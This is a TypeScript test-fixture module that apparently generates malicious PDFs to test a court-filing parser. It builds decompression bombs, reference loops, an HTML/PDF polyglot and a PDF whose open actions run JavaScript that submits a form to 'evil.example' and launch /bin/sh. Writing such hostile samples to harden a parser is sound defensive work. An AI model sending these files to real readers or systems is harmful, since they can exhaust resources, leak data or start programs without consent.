import { deflateSync, gzipSync } from "node:zlib";

/** A PDF of these objects, numbered from 1; the first is the catalog. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = "/Root 1 0 R"): Buffer {
  const chunks: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const offsets: number[] = [];
  let size = chunks[0]?.length ?? 0;
  const add = (chunk: Buffer): void => {
    chunks.push(chunk);
    size += chunk.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(size);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n")]));
  }
  const start = size;
  const lines = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  add(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
}

const PAGE =
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>";
const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** One page with this content stream; `more` goes into the catalog. */
export function pageWith(
  content: Buffer,
  how: { filter?: string; catalog?: string; more?: readonly string[] } = {},
): Buffer {
  const filter = how.filter === undefined ? "" : ` /Filter ${how.filter}`;
  const stream = Buffer.concat([
    Buffer.from(`<< /Length ${content.length}${filter} >>\nstream\n`),
    content,
    Buffer.from("\nendstream"),
  ]);
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${how.catalog ?? ""} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    PAGE,
    stream,
    FONT,
    ...(how.more ?? []),
  ]);
}

/** Text that a filing may hold, as a content stream. */
export const SOME_TEXT = Buffer.from("BT /F1 12 Tf 72 700 Td (The motion is granted.) Tj ET");

/** A page whose content unpacks to `bytes` spaces. */
export function flateBomb(bytes: number): Buffer {
  return pageWith(deflateSync(Buffer.alloc(bytes, 0x20), { level: 9 }), { filter: "/FlateDecode" });
}

/** The same, packed twice: a thousandth of a thousandth. */
export function doubleFlateBomb(bytes: number): Buffer {
  return pageWith(deflateSync(deflateSync(Buffer.alloc(bytes, 0x20), { level: 9 }), { level: 9 }), {
    filter: "[/FlateDecode /FlateDecode]",
  });
}

/** A file that says that it has `count` pages, and has one. */
export function manyPages(count: number): Buffer {
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
    PAGE,
    `<< /Length ${SOME_TEXT.length} >>\nstream\n${SOME_TEXT}\nendstream`,
    FONT,
  ]);
}

/** A page tree whose node is its own child. */
export function pageLoop(): Buffer {
  return pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]);
}

/** A cross-reference table whose predecessor is itself. */
export function xrefLoop(): Buffer {
  const whole = pageWith(SOME_TEXT).toString("latin1");
  const start = /startxref\n(\d+)/.exec(whole)?.[1] ?? "0"; // startxref\n512
  return Buffer.from(whole.replace("/Root 1 0 R", `/Root 1 0 R /Prev ${start}`), "latin1");
}

/** A file that wants a script to run, a program to start and a form to be sent when it is opened. */
export function actingPdf(): Buffer {
  return pageWith(SOME_TEXT, {
    catalog:
      "/OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(x.zip) 8 0 R] >> >>",
    more: [
      "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\)) >>",
      "<< /S /Launch /F (/bin/sh) >>",
      `<< /Type /Filespec /F (x.zip) /EF << /F 9 0 R >> >>`,
      `<< /Length 22 >>\nstream\nPK\u0005\u0006${"\0".repeat(18)}\nendstream`,
    ],
  });
}

/** HTML that a browser would run, and a PDF behind it. */
export function polyglot(): Buffer {
  return Buffer.concat([Buffer.from("<html><script>alert(1)</script>\n<!--\n"), pageWith(SOME_TEXT)]);
}

/** A compressed archive that says that it is a PDF. */
export function gzippedPdf(): Buffer {
  return gzipSync(pageWith(SOME_TEXT));
}
